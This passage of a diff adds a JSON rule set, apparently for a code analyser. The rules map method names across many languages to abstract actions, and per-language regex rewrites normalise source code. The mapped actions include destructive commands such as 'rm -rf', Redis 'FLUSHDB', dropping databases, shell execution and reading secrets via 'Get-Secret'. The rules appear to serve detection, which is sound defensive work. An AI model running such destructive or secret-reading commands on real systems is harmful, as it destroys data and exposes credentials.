+ST $0 $1 $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made request $\
+0","jenkinsItems":"made jenkins"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","onEnter":"v\
+alue $self","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $self","into_i\
+ter":"value $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","ok":"value \
+$self","clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $self","toStri\
+ng":"value $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"value $self",\
+"filter_entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath":"value $\
+self","normalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth":"value $s\
+elf","min_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"value $self",\
+"into":"value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | if-text if\
+-option:recursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter":"if-store\
+d entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","drop_database":"run sql drop-database\
+ db","dropDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self","output":"\
+if-list shell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-list shell $self","CombinedOutput":"if\
+-list shell $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self $all","arg\
+s":"concatenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively":"run rm \
+-rf $self","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jenkins run c\
+loud-sdk delete","getPlainText":"run Get-Secret","deleteSync":"if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","rm":"if-text run rm\
+ -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathComponent":"join $self $0","appending":"join $self $0","child":"jo\
+in $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder $self","listSync":"folder $self","children":"folder $self","\
+read_dir":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self below","contentsOfDirectory":"folder $0:at:\
+atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"write $self $0","writeAsStringSync":"wri\
+te $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":"open $self w","bufferedWriter":"open $\
+self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAsStringSync":"read $self","readBytes":"r\
+ead $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"send $self $0","puts":"send $self $0","POS\
+T":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url":"made request $0","Exec":"sql $0 | sql\
+ $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql $1","MustExec":"sql $0 | sql $1","execu\
+teUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | sql $1","prepareStatement":"sql $0 | sq\
+l $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $1","executeSql":"sql $0 | sql $1","rawQ\
+uery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},"dialects":{"lua":{"comment":"--\\\\[\\\\[[\
+\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:syml\
+ink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\
+\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove|getenv)|io\\\\.(?:popen|open)|require)\\\\\
+s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\\
+s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\\
+w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\belseif\\\\b","} else if"],["\\\\belse\\\\b","} \
+else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:\
+library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|utils|tools|purrr)::",""],["\\\\bunlink\\\\\
+b","rm_rf"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","li\
+st("],["([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\\
+))\\\\s*(?!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\
+\\\\([^()]*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\"\
+ \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<!\
+[\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1\
+"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Fi\
+lesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "\
+],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(\
+([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\\
+b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,\
+()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*\
+(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"\
+],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"(\
+[\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]\
+*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwh\
+ere\\\\b))","delete_some"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&\
+([\\\\w.:]+)/\\\\d","$1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?\
+([\\\\w, ]*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?\
+),\\\\s*","$1.forEach("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["\
+(?<!\\\\w):(?=[a-z]\\\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","f\
+unction $1() { $2 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"]\
+,["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*\
+|^#![^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\
+\\\\s*(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\
+\\\\w+)\\\\s*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\
+\\n]*){0,4}\\\\)){1,300}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"nam\
+ed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2\
+})?#*\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\
+\\\\\\\\(|\\\\{(?=\\\\w+\\\\}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1\
+.execute()"],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+\
+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]\
+])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?\
+=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)",\
+"$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?\
+!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|\
+findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\\
+w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|full\
+Path|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|get\
+Instance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|ad\
+dAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|filter)\\\\((\\\\w\
+[\\\\w.]*)\\\\(_\\\\)\\\\)",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+\
+([^{\\\\n]*(?:\\\\{[^{}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\
+\\\\[\\\\][\\\\w.]+)\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\\\\s*)?(?:\
+[\\\\w<>]+\\\\.)*(\\\\w+)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\)\
+)[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { return $2 }"],["\\\\b(?:val|mut|lazy|d\
+efer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\
+\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w\
++)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch\
+|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|e\
+lse|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}\
+]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\
+\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*\
+?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|\
+'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewrites":[["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^(\
+)]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^\
+<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any\
+_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getPropert\
+y|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachInd\
+exed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\
+\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.\
+(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:u\
+nsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|\
+runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(\
+?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\\
+w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?\
+=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\
+\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$\
+1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|static|public|private|protected|const|constexpr|auto|late|synchro\
+nized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\
+\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|new|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.\
+]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<![\\\\w.]\
+)(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|\
+instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"],["\\\\bfor\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+\
+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],\
+["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\
